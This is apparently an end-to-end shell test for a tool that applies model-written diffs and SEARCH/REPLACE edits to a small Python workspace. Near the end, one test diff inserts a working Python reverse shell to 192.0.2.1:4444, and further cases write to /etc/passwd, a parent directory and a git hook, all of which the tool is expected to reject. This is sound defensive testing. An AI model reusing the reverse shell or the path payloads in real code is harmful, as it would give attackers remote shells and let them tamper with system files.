#!/bin/sh
# Replies that edit: diffs and SEARCH/REPLACE change a workspace, or say why not and leave it as it was.
. tests/e2e/lib.sh

work=$SCRATCH/work
digest() { (cd "$work" && find . -type f -print0 | sort -z | xargs -0 sha256sum && find . -print0 |
	sort -z | xargs -0 stat -c '%n %a') | sha256sum; }

# run NAME: the reply on standard input over the workspace; its report is NAME.json, its status in $status.
run() {
	"$ASSAY" run --workspace "$work" --format json --output "$SCRATCH/$1.json" 2>"$SCRATCH/$1.log"
	status=$?
}

verdict() { json "$SCRATCH/$1.json" verdict; }

mkdir "$work"
cat >"$work/calc.py" <<'PYTHON'
import sys


def add(a, b):
    return a - b


def mul(a, b):
    return a * b
PYTHON
cat >"$work/test_calc.py" <<'PYTHON'
import unittest
from calc import add, mul


class CalcTest(unittest.TestCase):
    def test_add(self):
        self.assertEqual(add(1, 2), 3)

    def test_mul(self):
        self.assertEqual(mul(2, 3), 6)
PYTHON
chmod 755 "$work/calc.py"
before=$(digest)

# A diff that does not repair it is rolled back.
run wrong <<'REPLY'
```diff
--- a/calc.py
+++ b/calc.py
@@ -4,2 +4,2 @@
 def add(a, b):
-    return a - b
+    return a + a
```
REPLY
is "a diff that repairs nothing: verdict" "$(verdict wrong)" tests_failed
is "a diff that repairs nothing: exit status" "$status" 1
is "a diff that repairs nothing: the workspace is as it was" "$(digest)" "$before"

# One that does not fit says where and why.
run unfit <<'REPLY'
```diff
--- a/calc.py
+++ b/calc.py
@@ -4,2 +4,2 @@
 def add(a, b):
-    return a / b
+    return a + b
--- a/none.py
+++ b/none.py
@@ -1 +1 @@
-x = 1
+x = 2
```
REPLY
is "does not fit: verdict" "$(verdict unfit)" rejected
is "does not fit: phase" "$(json "$SCRATCH/unfit.json" phase)" plan
is "does not fit: exit status" "$status" 3
is "does not fit: rule" "$(json "$SCRATCH/unfit.json" findings 0 rule)" edit-does-not-fit
is "does not fit: every failure is told" "$(json "$SCRATCH/unfit.json" findings 1 path)" none.py
json "$SCRATCH/unfit.json" findings 0 message >"$SCRATCH/message"
ok "does not fit: the line that stands there" grep -q 'line 5 is "    return a - b"' "$SCRATCH/message"
ok "does not fit: the line that was expected" grep -q 'edit has "    return a / b"' "$SCRATCH/message"
json "$SCRATCH/unfit.json" feedback >"$SCRATCH/feedback"
ok "does not fit: the feedback says it too" grep -q 'return a - b' "$SCRATCH/feedback"
is "does not fit: the workspace is as it was" "$(digest)" "$before"

# Attempt 2: the diff that repairs it, with a wrong line and wrong counts, as models write them.
run right <<'REPLY'
The minus must be a plus:

```diff
--- a/calc.py
+++ b/calc.py
@@ -2,9 +2,8 @@
 def add(a, b):
-    return a - b
+    return a + b
```
REPLY
is "a diff: verdict" "$(verdict right)" passed
is "a diff: all tests of the workspace ran" "$(json "$SCRATCH/right.json" results summary passed)" 2
ok "a diff: the workspace has it" grep -q 'return a + b' "$work/calc.py"
is "a diff: the file may still be executed" "$(stat -c %a "$work/calc.py")" 755
is "a diff: fixed since the attempt before" "$(json "$SCRATCH/right.json" delta fixed)" \
	'["test_calc.CalcTest > test_add"]'

before=$(digest)
run again <<'REPLY'
```diff
--- a/calc.py
+++ b/calc.py
@@ -4,2 +4,2 @@
 def add(a, b):
-    return a - b
+    return a + b
```
REPLY
is "the same again: exit status" "$status" 3
json "$SCRATCH/again.json" findings 0 message >"$SCRATCH/message"
ok "the same again: says so" grep -q 'already as' "$SCRATCH/message"

# SEARCH/REPLACE, indented otherwise than the file; the test comes with it.
run search <<'REPLY'
calc.py
```python
<<<<<<< SEARCH
return a * b
=======
if b == 0:
    return 0
return a * b
>>>>>>> REPLACE
```

test_calc.py
```python
<<<<<<< SEARCH
        self.assertEqual(mul(2, 3), 6)
=======
        self.assertEqual(mul(2, 3), 6)
        self.assertEqual(mul("ab", 0), 0)
>>>>>>> REPLACE
```
REPLY
is "SEARCH/REPLACE: verdict" "$(verdict search)" passed
ok "SEARCH/REPLACE: the workspace has it, indented" grep -q '^        return 0$' "$work/calc.py"

# Rename and deletion; the tests follow.
echo 'x = 1' >"$work/unused.py"
run rename <<'REPLY'
```diff
diff --git a/calc.py b/lib/calculator.py
similarity index 95%
rename from calc.py
rename to lib/calculator.py
--- a/calc.py
+++ b/lib/calculator.py
@@ -1,3 +1,1 @@
-import sys
-
-
 def add(a, b):
diff --git a/lib/__init__.py b/lib/__init__.py
new file mode 100644
diff --git a/unused.py b/unused.py
deleted file mode 100644
--- a/unused.py
+++ /dev/null
@@ -1 +0,0 @@
-x = 1
diff --git a/test_calc.py b/test_calc.py
--- a/test_calc.py
+++ b/test_calc.py
@@ -1,2 +1,2 @@
 import unittest
-from calc import add, mul
+from lib.calculator import add, mul
```
REPLY
is "rename and deletion: verdict" "$(verdict rename)" passed
is "rename and deletion: the files" "$(cd "$work" && find . -type f -name '*.py' | sort | tr '\n' ' ')" \
	"./lib/__init__.py ./lib/calculator.py ./test_calc.py "
is "rename: it may still be executed" "$(stat -c %a "$work/lib/calculator.py")" 755

# What an edit brings is checked like any code, and where it goes like any path.
before=$(digest)
run rules <<'REPLY'
```diff
--- a/lib/calculator.py
+++ b/lib/calculator.py
@@ -1,1 +1,4 @@
+import os, socket, subprocess
+s = socket.socket(); s.connect(("192.0.2.1", 4444))
+os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); subprocess.call(["/bin/sh", "-i"])
 def add(a, b):
```
REPLY
is "rules: a reverse shell in a diff" "$(verdict rules)" rejected
is "rules: found by the checks" "$(json "$SCRATCH/rules.json" phase)" validate
is "rules: on the line of the block" "$(json "$SCRATCH/rules.json" findings 0 line)" 6
for path in ../climbs.py /etc/passwd .git/hooks/post-commit; do
	run path <<REPLY
\`\`\`diff
--- /dev/null
+++ $path
@@ -0,0 +1 @@
+x = 1
\`\`\`
REPLY
	is "$path: verdict" "$(verdict path)" rejected
	is "$path: phase" "$(json "$SCRATCH/path.json" phase)" validate
done
is "refused edits leave the workspace as it was" "$(digest)" "$before"

# An edit reads no more than the workspace: not through a link.
echo 'the secret' >"$SCRATCH/secret.txt"
ln -s "$SCRATCH/secret.txt" "$work/link.txt"
run link <<'REPLY'
```diff
--- a/link.txt
+++ b/link.txt
@@ -1 +1 @@
-unknown
+known
```
REPLY
is "through a link: exit status" "$status" 3
ok "through a link: nothing of it is told" sh -c "! grep -q 'the secret' '$SCRATCH/link.json'"

# Without a workspace there is nothing to edit.
"$ASSAY" run --format json --output "$SCRATCH/none.json" <<'REPLY'
```diff
--- a/src/a.py
+++ b/src/a.py
@@ -1 +1 @@
-x = 1
+x = 2
```
REPLY
is "no workspace: exit status" "$?" 3
is "no workspace: message" "$(json "$SCRATCH/none.json" findings 0 message)" \
	"the reply edits src/a.py, but there is no such file: send the whole file, or name the workspace"
finish
